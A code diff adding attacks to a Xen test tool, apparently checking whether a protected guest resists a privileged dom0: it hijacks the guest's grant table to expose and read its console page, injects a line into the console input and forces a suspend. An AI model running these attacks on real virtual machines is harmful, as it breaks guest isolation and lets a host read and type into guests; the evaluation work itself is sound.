@@ -23,6 +23,18 @@
  *   sc-xen-attack DOMID seed-grant FRAME | unseed-grant
  *       writes (or clears) grant entry 7 of the guest, offering FRAME to
  *       dom0, through a mapping of its grant table (acquire_resource)
+ *   sc-xen-attack DOMID hold-gnttab FRAME
+ *       maps the guest's grant table (XENMEM_acquire_resource, writable, as
+ *       any toolstack could), prints "holding" and holds it.  On SIGUSR1 it
+ *       attacks through the mapping it held: writes grant entry 5 naming
+ *       FRAME (the console page) for dom0, maps entry 5 and judges the bytes
+ *       (attack gnttab-held-read), then types a line with a fresh nonce into
+ *       the console's in[] and notifies the guest, and looks for the guest's
+ *       echo of it in out[] (attack gnttab-held-inject); then exits.  On
+ *       SIGTERM it lets go and exits.
+ *   sc-xen-attack DOMID suspend
+ *       SCHEDOP_remote_shutdown(SHUTDOWN_suspend) of the guest, as the
+ *       toolstack's save does: its vCPUs stop where they are
  *   sc-xen-attack DOMID hold-target
  *       makes an empty PV helper domain whose target is the guest
  *       (XEN_DOMCTL_set_target; Xen accepts only an HVM/PVH target), holds
@@ -45,13 +57,19 @@
 #include <sys/mman.h>
 #include <unistd.h>
 
+#include <time.h>
+
+#include <xencall.h>
 #include <xenctrl.h>
 #include <xenforeignmemory.h>
 #include <xengnttab.h>
+#include <xen/event_channel.h>
 #include <xen/grant_table.h>
+#include <xen/io/console.h>
 #include <xen/memory.h>
 
 #define SEED_REF 7
+#define HELD_REF 5
 #define PAGE 4096
 
 static xc_interface *xch;
@@ -64,7 +82,8 @@ static int usage(void)
 {
     fprintf(stderr, "usage: sc-xen-attack DOMID suite pv|pvh FRAME MARKER |\n"
                     "       DOMID hold-map FRAME | DOMID seed-grant FRAME |\n"
-                    "       DOMID unseed-grant | DOMID hold-target\n");
+                    "       DOMID unseed-grant | DOMID hold-gnttab FRAME | DOMID suspend |\n"
+                    "       DOMID hold-target\n");
     return 2;
 }
 
@@ -159,6 +178,102 @@ static void attack_grant_seed(uint32_t domid, xen_pfn_t frame)
     (void)seed(domid, frame, 0);
 }
 
+/*
+ * Notifies every event channel of dom0 connected to domid (its console's
+ * among them) with a raw EVTCHNOP_send through privcmd, as root can: the
+ * ports belong to xenconsoled and xenstored, not to this process.
+ */
+static int notify_guest(uint32_t domid)
+{
+    xencall_handle *xc = xencall_open(NULL, 0);
+    evtchn_send_t *send;
+    evtchn_port_t p;
+    int n = 0;
+
+    if (!xc)
+        return 0;
+    send = xencall_alloc_buffer(xc, sizeof(*send));
+    for (p = 1; send && p < 4096; p++) {
+        xc_evtchn_status_t st;
+
+        memset(&st, 0, sizeof(st));
+        st.dom = DOMID_SELF;
+        st.port = p;
+        if (xc_evtchn_status(xch, &st) || st.status != EVTCHNSTAT_interdomain ||
+            st.u.interdomain.dom != domid)
+            continue;
+        send->port = p;
+        if (xencall2(xc, __HYPERVISOR_event_channel_op, EVTCHNOP_send,
+                     (uint64_t)(uintptr_t)send) == 0)
+            n++;
+    }
+    if (send)
+        xencall_free_buffer(xc, send);
+    xencall_close(xc);
+    return n;
+}
+
+/* Types line into the console's in[] and waits for the guest's echo in out[]. */
+static void inject(uint32_t domid, volatile struct xencons_interface *c)
+{
+    char line[64], what[128];
+    size_t i, len;
+    XENCONS_RING_IDX prod;
+    struct timespec ts = { 0, 200 * 1000 * 1000 };
+    int tries;
+
+    snprintf(line, sizeof(line), "sccrypt-injected-%08lx", (unsigned long)random());
+    len = strlen(line);
+    prod = c->in_prod;
+    for (i = 0; i < len; i++)
+        c->in[MASK_XENCONS_IDX(prod + i, c->in)] = line[i];
+    __sync_synchronize();
+    c->in_prod = prod + (XENCONS_RING_IDX)len;
+    notify_guest(domid);
+    for (tries = 0; tries < 50; tries++) {
+        char out[sizeof(c->out) + 1];
+
+        for (i = 0; i < sizeof(c->out); i++)
+            out[i] = c->out[i] ? c->out[i] : ' ';
+        out[sizeof(c->out)] = 0;
+        if (strstr(out, line)) {
+            snprintf(what, sizeof(what), "the guest echoed the injected %s", line);
+            got("gnttab-held-inject", what);
+            return;
+        }
+        if (tries % 10 == 9)
+            notify_guest(domid);
+        nanosleep(&ts, NULL);
+    }
+    nothing("gnttab-held-inject", "no echo of the injected line in out[]", 0);
+}
+
+/*
+ * The grant-table mapping held across the bind: write entry HELD_REF naming
+ * the console frame through it, map the entry, read and type.
+ */
+static void attack_held(uint32_t domid, grant_entry_v1_t *e, xen_pfn_t frame)
+{
+    void *p;
+
+    e[HELD_REF].domid = 0;
+    e[HELD_REF].frame = (uint32_t)frame;
+    __sync_synchronize();
+    e[HELD_REF].flags = GTF_permit_access;
+    p = xengnttab_map_grant_ref(gt, domid, HELD_REF, PROT_READ | PROT_WRITE);
+    if (!p) {
+        nothing("gnttab-held-read", "grant map of the written entry refused", errno);
+        nothing("gnttab-held-inject", "no mapping", 0);
+    } else {
+        judge_page("gnttab-held-read", p);
+        inject(domid, p);
+        xengnttab_unmap(gt, p, 1);
+    }
+    e[HELD_REF].flags = 0;
+    __sync_synchronize();
+    e[HELD_REF].frame = 0;
+}
+
 /* An empty PV domain (no memory, never run) whose target is the guest. */
 static int make_helper(uint32_t domid, uint32_t *helper)
 {
@@ -250,11 +365,11 @@ static volatile sig_atomic_t stop;
 
 static void on_signal(int sig)
 {
-    (void)sig;
-    stop = 1;
+    stop = sig;
 }
 
-static void wait_for_signal(void)
+/* Holds until SIGTERM or SIGINT (or SIGUSR1 when usr1); returns the signal. */
+static int wait_for_signal(int usr1)
 {
     struct sigaction sa;
 
@@ -262,10 +377,13 @@ static void wait_for_signal(void)
     sa.sa_handler = on_signal;
     sigaction(SIGTERM, &sa, NULL);
     sigaction(SIGINT, &sa, NULL);
+    if (usr1)
+        sigaction(SIGUSR1, &sa, NULL);
     printf("holding\n");
     fflush(stdout);
     while (!stop)
         pause();
+    return stop;
 }
 
 int main(int argc, char **argv)
@@ -307,7 +425,7 @@ int main(int argc, char **argv)
             printf("refused: %s\n", strerror(p ? -err : errno));
             return 1;
         }
-        wait_for_signal();
+        wait_for_signal(0);
         xenforeignmemory_unmap(fm, p, 1);
         rc = 0;
     } else if (!strcmp(argv[2], "seed-grant") && argc == 4) {
@@ -319,6 +437,28 @@ int main(int argc, char **argv)
     } else if (!strcmp(argv[2], "unseed-grant") && argc == 3) {
         rc = seed((uint32_t)domid, 0, 0) < 0 ? 1 : 0;
         printf(rc ? "refused: %s\n" : "cleared\n", strerror(errno));
+    } else if (!strcmp(argv[2], "hold-gnttab") && argc == 4) {
+        xenforeignmemory_resource_handle *res;
+        grant_entry_v1_t *e;
+
+        frame = strtoull(argv[3], &end, 0);
+        if (*end)
+            return usage();
+        e = grant_table((uint32_t)domid, &res);
+        if (!e) {
+            printf("refused: %s\n", strerror(errno));
+            return 1;
+        }
+        srandom((unsigned)time(NULL) ^ (unsigned)getpid());
+        if (wait_for_signal(1) == SIGUSR1) {
+            attack_held((uint32_t)domid, e, frame);
+            printf("attacks: %d worked, %d got nothing\n", worked, failed);
+        }
+        xenforeignmemory_unmap_resource(fm, res);
+        rc = failed == 0 ? 0 : worked == 0 ? 1 : 3;
+    } else if (!strcmp(argv[2], "suspend") && argc == 3) {
+        rc = xc_domain_shutdown(xch, (uint32_t)domid, SHUTDOWN_suspend) ? 1 : 0;
+        printf(rc ? "refused: %s\n" : "suspended\n", strerror(errno));
     } else if (!strcmp(argv[2], "hold-target") && argc == 3) {
         uint32_t helper;
 
@@ -327,7 +467,7 @@ int main(int argc, char **argv)
             return 1;
         }
         printf("helper %u\n", helper);
-        wait_for_signal();
+        wait_for_signal(0);
         xc_domain_destroy(xch, helper);
         rc = 0;
     } else
